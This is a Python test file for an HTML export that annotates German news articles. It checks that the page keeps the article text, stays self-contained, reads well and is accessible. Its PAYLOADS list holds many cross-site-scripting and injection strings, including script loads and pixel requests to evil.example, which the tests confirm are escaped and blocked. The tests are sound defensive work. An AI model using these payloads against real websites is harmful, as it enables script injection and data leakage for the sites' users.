"""The HTML page: what it says, that it is self-contained, and in a real browser that nothing runs or leaks."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import replace
from html.parser import HTMLParser
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from laut.export.page import to_page
from laut.models import Block, Mark, Span
from tests.browser import Browser, find_chromium, start_browser
from tests.export.example import ARTICLE, PARAGRAPHS, READING, STATEMENTS, TITLE, at, poisoned

NO_BROWSER = pytest.mark.skipif(find_chromium() is None, reason="NOT TESTED in a browser: no Chromium is installed")


def needs_chromium(test: Any) -> Any:
    """Marks a test that opens the page in a real browser."""
    return pytest.mark.browser(NO_BROWSER(test))


class Outline(HTMLParser):
    """Tags with their attributes, ids, links, and the text of elements by class."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def values(self, attribute: str) -> list[str]:
        return [value for _, attributes in self.tags if (value := attributes.get(attribute))]


def text_of(page: str) -> str:
    """The page's words without style, tags and the numbers of notes."""
    page = re.sub(r"<style>.*?</style>|<a class=\"number\".*?</a>", "", page, flags=re.DOTALL)
    page = re.sub(r"</(?:span|dt|dd|li)>", " ", page)
    return " ".join(re.sub(r"<[^>]+>", "", page).split())


def test_the_article_stands_there_word_for_word() -> None:
    words = text_of(to_page([READING]))
    for paragraph in (TITLE, *PARAGRAPHS):
        assert paragraph in words


def test_text_between_blocks_is_not_left_out() -> None:
    reading = replace(READING, article=replace(ARTICLE, blocks=(Block(at(PARAGRAPHS[0]), "paragraph"),)))
    assert PARAGRAPHS[1] in text_of(to_page([reading]))


def test_chains_marks_and_origins_stand_beside_it() -> None:
    words = text_of(to_page([READING]))
    for expected in (
        "Origins at a glance 5 statements, 3 attributed",
        "Hafenblatt → einen Ingenieur witness, anonymous",
        "side by side: Land",
        "indirect speech assert sounds certain outlet distances itself",
        "words berichtet · unter Berufung auf · sei (Konjunktiv I)",
        "said on Dienstag = 2025-04-01",
        "nobody named",
        "dateline: Kiel (npa) –",
        "Left out: 1 block that is no part of the article consent Empfohlener externer Inhalt",
        "Warnings 3 control characters left out the language was guessed",
    ):
        assert expected in words


def test_nested_statements_are_marked_inside_each_other() -> None:
    page = to_page([READING])
    marks = re.findall(r'<mark class="(c\d|cx) (\w+)( nested)?( word)?">([^<]*)</mark>', page)
    assert [(line, nested, word, text) for _, line, nested, word, text in marks if line != "named"][:5] == [
        ("role", "", "", "dashed"),
        ("anonymous", "", "", "dotted"),
        ("anonymous", "", "", "ein Lager "),
        ("anonymous", "", " word", "sei"),
        ("anonymous", "", "", " "),
    ]
    assert ("anonymous", " nested", "", "„völlig zerrieben“") in [mark[1:] for mark in marks]


def test_every_link_leads_to_a_place_on_the_page_and_ids_are_unique() -> None:
    outline = Outline(to_page([READING, READING]))
    ids = outline.values("id")
    assert len(ids) == len(set(ids))
    links = outline.values("href")
    assert links and {link[0] for link in links} == {"#"}
    assert {link[1:] for link in links} <= set(ids)


def test_the_page_is_self_contained() -> None:
    outline = Outline(to_page([READING]))
    assert not {tag for tag, _ in outline.tags} & {"script", "img", "iframe", "object", "embed", "link", "form"}
    assert not outline.values("src") and not outline.values("style")
    assert [name for _, attributes in outline.tags for name in attributes if name.startswith("on")] == []


def test_an_address_is_shown_and_not_linked() -> None:
    page = to_page([READING])
    assert "https://kueste.example/bruecke" in page
    assert not any("kueste.example" in link for link in Outline(page).values("href"))


SPAN = st.tuples(st.integers(0, 60), st.integers(1, 20)).map(lambda pair: (pair[0], pair[0] + pair[1]))
PIECES = st.lists(SPAN, min_size=1, max_size=3, unique_by=lambda span: span[0]).map(sorted).map(tuple)


@given(contents=st.lists(PIECES, max_size=6), marks=st.lists(SPAN, max_size=4), cut=st.integers(1, 79))
def test_however_statements_overlap_the_text_stays_whole(
    contents: list[tuple[Span, ...]], marks: list[Span], cut: int
) -> None:
    text = "".join(chr(ord("a") + i % 26) for i in range(80))
    statements = tuple(
        replace(STATEMENTS[4], id=f"st{n}", content=content, marks=tuple(Mark(mark, "modal", "") for mark in marks))
        for n, content in enumerate(contents)
    )
    blocks = (Block((0, cut), "paragraph"), Block((cut, 80), "paragraph"))
    article = replace(ARTICLE, text=text, blocks=blocks, title=None, dropped=(), warnings=(), credits=())
    page = to_page([replace(READING, article=article, statements=statements, origins=(), sources=(), warnings=())])
    paragraphs = re.findall(r'<p class="text paragraph"[^>]*>(.*?)</p>', page, re.DOTALL)
    shown = [re.sub(r"<a class=\"number\".*?</a>", "", paragraph) for paragraph in paragraphs]
    assert "".join(re.sub(r"<[^>]+>", "", paragraph) for paragraph in shown) == text
    marked = "".join(re.findall(r"<mark[^>]*>([^<]*)</mark>", "".join(shown)))
    assert marked == "".join(text[i] for i in range(80) if any(b <= i < e for c in contents for b, e in c))
    assert page.count('class="number" href="#a1n') == len(contents)


EVENTS = (
    "onerror onload onclick onfocus onmouseover onanimationstart ontoggle onpointerover onbeforetoggle onscrollend"
).split()
RUN = "document.documentElement.dataset.ran=1"
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<ScRiPt>{RUN}</ScRiPt>",
    f"<script src=http://evil.example/x.js></script>",  # noqa: F541
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<math><mtext></mtext><script>{RUN}</script></math>",
    f"<img src=x onerror={RUN}>",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f'" autofocus onfocus="{RUN}',
    f"' onmouseover='{RUN}",
    f'x" onclick="{RUN}" y="',
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<a href=javascript:{RUN}>x</a>",
    f"javascript:{RUN}",
    f"<object data='data:text/html,<script>parent.{RUN}</script>'></object>",
    f"<embed src=javascript:{RUN}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=http://evil.example/>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<link rel=prefetch href=http://evil.example/x>",
    "<img src=http://evil.example/pixel.gif>",
    "<video poster=http://evil.example/x.jpg src=http://evil.example/x.mp4 autoplay></video>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<div style='background:url(http://evil.example/x.png)'>x</div>",
    "<form action=http://evil.example/><input autofocus></form>",
    "{{ 7*7 }}{% include 'page.html' %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "&lt;script&gt;" + RUN + "&lt;/script&gt;",
    "\u003cscript\u003e" + RUN + "\u003c/script\u003e",
    "<noscript><p title='</noscript><img src=x onerror=" + RUN + ">'>",
    *(f"<input {event}={RUN} autofocus>" for event in EVENTS),
]


def test_payloads_come_out_escaped() -> None:
    clean = Outline(to_page([READING]))
    for payload in PAYLOADS:
        page = Outline(to_page([poisoned(payload)]))
        assert {tag for tag, _ in page.tags} <= {tag for tag, _ in clean.tags}, payload
        assert {n for _, a in page.tags for n in a} <= {n for _, a in clean.tags for n in a}, payload


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with start_browser() as started:
        yield started


@needs_chromium
@pytest.mark.parametrize("with_policy", [True, False], ids=["with its policy", "without its policy"])
def test_nothing_runs_and_nothing_is_fetched(browser: Browser, tmp_path: Path, with_policy: bool) -> None:
    page = to_page([poisoned(payload) for payload in PAYLOADS])
    if not with_policy:
        page, n_removed = re.subn(r"<meta http-equiv=\"Content-Security-Policy\"[^>]*>", "", page)
        assert n_removed == 1
    path = tmp_path / "page.html"
    path.write_text(page, encoding="utf-8")
    browser.open(path, 1200)
    browser.evaluate(
        "document.querySelectorAll('*').forEach(element => {"
        "  for (const name of ['click', 'mouseover', 'focus', 'toggle', 'pointerover'])"
        "    element.dispatchEvent(new Event(name, {bubbles: true})); })"
    )
    browser.evaluate("new Promise(resolve => setTimeout(resolve, 300))")
    assert browser.evaluate("document.documentElement.dataset.ran === undefined") is True
    assert browser.evaluate("document.scripts.length") == 0
    assert browser.evaluate("location.protocol") == "file:"
    assert [url for url in browser.requests() if not url.startswith("file:")] == []


@needs_chromium
def test_the_policy_stops_a_script_that_got_in(browser: Browser, tmp_path: Path) -> None:
    """The second line of defence: were escaping to fail, nothing would run or be fetched all the same."""
    path = tmp_path / "page.html"
    inside = f"<script>{RUN}</script><img src=http://evil.example/p.gif><p style='color:red' id=probe>x</p>"
    path.write_text(to_page([READING]).replace("<main>", f"<main>{inside}"), encoding="utf-8")
    browser.open(path, 1200)
    assert browser.evaluate("document.documentElement.dataset.ran === undefined") is True
    assert browser.evaluate("getComputedStyle(document.getElementById('probe')).color") != "rgb(255, 0, 0)"
    failed = [e for e in browser.events if e.get("method") == "Network.loadingFailed"]
    assert {e["params"].get("blockedReason") for e in failed} <= {"csp"}


@needs_chromium
def test_the_style_applies(browser: Browser, tmp_path: Path) -> None:
    path = tmp_path / "page.html"
    path.write_text(to_page([READING]), encoding="utf-8")
    browser.open(path, 1200)
    assert browser.evaluate("getComputedStyle(document.querySelector('mark')).textDecorationLine") == "underline"


LONG = "Rindfleischetikettierungsüberwachungsaufgabenübertragungsgesetz" * 4


@needs_chromium
@pytest.mark.parametrize("width", [320, 360, 768, 1200])
@pytest.mark.parametrize("words", ["", LONG], ids=["plain", "one long word"])
def test_no_horizontal_scrolling(browser: Browser, tmp_path: Path, width: int, words: str) -> None:
    path = tmp_path / "page.html"
    path.write_text(to_page([poisoned(words) if words else READING]), encoding="utf-8")
    browser.open(path, width)
    assert browser.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth") is True


CONTRAST = """(() => {
  const canvas = document.createElement('canvas').getContext('2d', {willReadFrequently: true});
  const rgb = colour => { canvas.clearRect(0, 0, 1, 1); canvas.fillStyle = colour; canvas.fillRect(0, 0, 1, 1);
    return [...canvas.getImageData(0, 0, 1, 1).data]; };
  const light = ([r, g, b]) => [r, g, b].map(v => v / 255)
    .map(v => v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4)
    .reduce((sum, v, i) => sum + v * [0.2126, 0.7152, 0.0722][i], 0);
  const ground = element => { for (; element; element = element.parentElement) {
    const colour = rgb(getComputedStyle(element).backgroundColor); if (colour[3] === 255) return colour; }
    return [255, 255, 255]; };
  let worst = 21;
  for (const element of document.querySelectorAll('body *')) {
    if (![...element.childNodes].some(node => node.nodeType === 3 && node.textContent.trim())) continue;
    const [a, b] = [light(rgb(getComputedStyle(element).color)), light(ground(element))];
    worst = Math.min(worst, (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05));
  }
  return worst; })()"""


@needs_chromium
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_contrast_is_enough_to_read(browser: Browser, tmp_path: Path, scheme: str) -> None:
    """WCAG 2.2 AA asks for 4.5 : 1."""
    path = tmp_path / "page.html"
    path.write_text(to_page([READING]), encoding="utf-8")
    browser.send("Emulation.setEmulatedMedia", features=[{"name": "prefers-color-scheme", "value": scheme}])
    browser.open(path, 1200)
    assert browser.evaluate("matchMedia('(prefers-color-scheme: dark)').matches") is (scheme == "dark")
    assert browser.evaluate(CONTRAST) >= 4.5


@needs_chromium
def test_what_was_left_out_opens_by_keyboard_and_is_printed(browser: Browser, tmp_path: Path) -> None:
    path = tmp_path / "page.html"
    path.write_text(to_page([READING]), encoding="utf-8")
    browser.open(path, 1200)
    visible = "document.querySelector('.dropped').checkVisibility({contentVisibilityAuto: true})"
    assert browser.evaluate("document.querySelector('summary').focus(); document.activeElement.tagName") == "SUMMARY"
    assert browser.evaluate(visible) is False
    browser.send("Emulation.setEmulatedMedia", media="print")
    assert browser.evaluate("document.querySelector('.dropped').getBoundingClientRect().height") > 0
    browser.send("Emulation.setEmulatedMedia", media="")


@needs_chromium
def test_headings_follow_each_other(browser: Browser, tmp_path: Path) -> None:
    path = tmp_path / "page.html"
    path.write_text(to_page([READING]), encoding="utf-8")
    browser.open(path, 1200)
    levels = browser.evaluate("[...document.querySelectorAll('h1,h2,h3,h4')].map(h => +h.tagName[1])")
    assert levels[0] == 1 and levels.count(1) == 1
    assert all(after - before <= 1 for before, after in pairwise(levels))
